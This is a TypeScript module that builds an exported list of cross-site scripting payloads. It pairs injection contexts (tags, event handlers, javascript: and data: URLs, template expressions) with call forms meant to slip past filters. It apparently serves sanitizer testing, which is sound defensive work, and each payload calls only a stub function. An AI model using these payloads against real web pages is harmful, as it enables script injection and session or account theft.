/** Texts that run a script where a page takes them for markup, an attribute, an address or code. */

/** Places that run code; `CODE` is the call. */
const PLACES = [
  '<script>CODE</script>',
  '"><script>CODE</script>',
  '</textarea><script>CODE</script>',
  '</title><svg onload=CODE>',
  '<svg onload=CODE>',
  '<img src=x onerror=CODE>',
  "'><img src=x onerror='CODE'>",
  '" onfocus="CODE" autofocus="',
  "' onmouseover='CODE' '",
  '<input autofocus onfocus=CODE>',
  '<details open ontoggle=CODE>',
  '<video><source onerror=CODE>',
  '<audio src=x onerror=CODE>',
  '<body onload=CODE>',
  '<iframe srcdoc="<script>CODE</script>">',
  '<iframe src="javascript:CODE">',
  '<a href="javascript:CODE" id=x>x</a>',
  'javascript:CODE',
  'data:text/html,<script>CODE</script>',
  '<math><mtext><img src=x onerror=CODE>',
  '<style>@import "javascript:CODE"</style>',
  '<link rel=stylesheet onload=CODE href=data:,>',
  '<object data="javascript:CODE">',
  '<form><button formaction="javascript:CODE">x',
  '<marquee onstart=CODE>',
  '<select autofocus onfocus=CODE>',
  '<!--><img src=x onerror=CODE>-->',
  '{{constructor.constructor("CODE")()}}',
  '${CODE}',
  '\u2028<img src=x onerror=CODE>',
]

/** Calls of `xss`, written so that a filter may overlook them. */
const CALLS = [
  'xss()',
  'xss``',
  'top.xss()',
  "window['xss']()",
  '&#120;ss()',
  '\\u0078ss()',
  '(0,xss)()',
  "eval('xss()')",
  "setTimeout('xss()')",
  "import('data:text/javascript,xss()')",
]

/** All payloads, spread so that the first ones differ in both parts. */
export const SCRIPT_PAYLOADS: readonly string[] = Array.from({ length: PLACES.length * CALLS.length }, (_, index) => {
  const place = PLACES[index % PLACES.length]!
  const call = CALLS[(index + Math.floor(index / PLACES.length)) % CALLS.length]!
  return place.replaceAll('CODE', call)
})
